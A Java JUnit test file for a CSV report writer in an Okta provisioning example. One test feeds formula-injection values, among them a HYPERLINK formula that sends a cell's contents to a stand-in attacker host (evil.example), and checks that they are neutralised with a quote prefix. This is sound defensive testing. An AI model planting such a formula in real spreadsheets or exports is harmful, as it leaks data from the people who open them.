package dev.camelokta.examples.provisioning.csv;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

import dev.camelokta.examples.provisioning.ReportCsv;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class ReportWriterTest {

    @TempDir
    Path outbox;

    @Test
    void namesTheReportAfterTheInputFile() {
        assertThat(ReportWriter.reportName("users.csv")).isEqualTo("users-report.csv");
        assertThat(ReportWriter.reportName("TEAM.CSV")).isEqualTo("TEAM-report.csv");
        assertThat(ReportWriter.reportName("export")).isEqualTo("export-report.csv");
    }

    @Test
    void showsTheReportInTheOutboxOnlyOnceClosed() throws Exception {
        ReportWriter report = ReportWriter.open(outbox, "users.csv");
        report.write(RowResult.created(UserRow.valid(1, "ada@example.com", Map.of()), "00uada"));
        report.write(RowResult.failed(UserRow.invalid(2, "alan@example.com", "missing last_name, email"), "missing last_name, email"));

        assertThat(outbox.resolve("users-report.csv")).doesNotExist();

        report.close();
        report.close();

        assertThat(Files.readString(outbox.resolve("users-report.csv"))).isEqualTo("""
                row,login,status,okta_user_id,error,note
                1,ada@example.com,created,00uada,,
                2,alan@example.com,failed,,"missing last_name, email",
                """);
        try (var files = Files.list(outbox)) {
            assertThat(files).containsExactly(outbox.resolve("users-report.csv"));
        }
    }

    @Test
    void aCellThatStartsLikeAFormulaIsQuotedAndPrefixedWithAQuoteInEveryColumnAndTheNoteSaysWhich() throws Exception {
        ReportWriter report = ReportWriter.open(outbox, "users.csv");
        report.write(new RowResult(1, "=HYPERLINK(\"http://evil.example/?\"&A1)", "created", "+00u1", null));
        report.write(new RowResult(2, "@SUM(A1:A9)", "failed", null, "-1 is not a name"));
        report.write(new RowResult(3, "\tcmd", "failed", null, "\r=1+1"));
        report.write(new RowResult(4, "grace@example.com", "failed", null, "a - b = c, not a formula"));
        report.close();

        assertThat(Files.readString(outbox.resolve("users-report.csv"))).isEqualTo("""
                row,login,status,okta_user_id,error,note
                1,"'=HYPERLINK(""http://evil.example/?""&A1)",created,"'+00u1",,"prefixed with ' so that a spreadsheet shows text, not a formula: login, okta_user_id"
                2,"'@SUM(A1:A9)",failed,,"'-1 is not a name","prefixed with ' so that a spreadsheet shows text, not a formula: login, error"
                3,"'\tcmd",failed,,"'\r=1+1","prefixed with ' so that a spreadsheet shows text, not a formula: login, error"
                4,grace@example.com,failed,,"a - b = c, not a formula",
                """);
        assertThat(ReportCsv.records(outbox.resolve("users-report.csv"))).extracting(row -> row.get("login"))
                .containsExactly("'=HYPERLINK(\"http://evil.example/?\"&A1)", "'@SUM(A1:A9)", "'\tcmd", "grace@example.com");
    }

    @Test
    void refusesARowAfterClosing() throws Exception {
        ReportWriter report = ReportWriter.open(outbox, "users.csv");
        report.close();

        assertThatThrownBy(() -> report.write(RowResult.created(UserRow.valid(3, "grace@example.com", Map.of()), "00ugrace")))
                .isInstanceOf(IllegalStateException.class)
                .hasMessageContaining("row 3 came too late");
    }
}
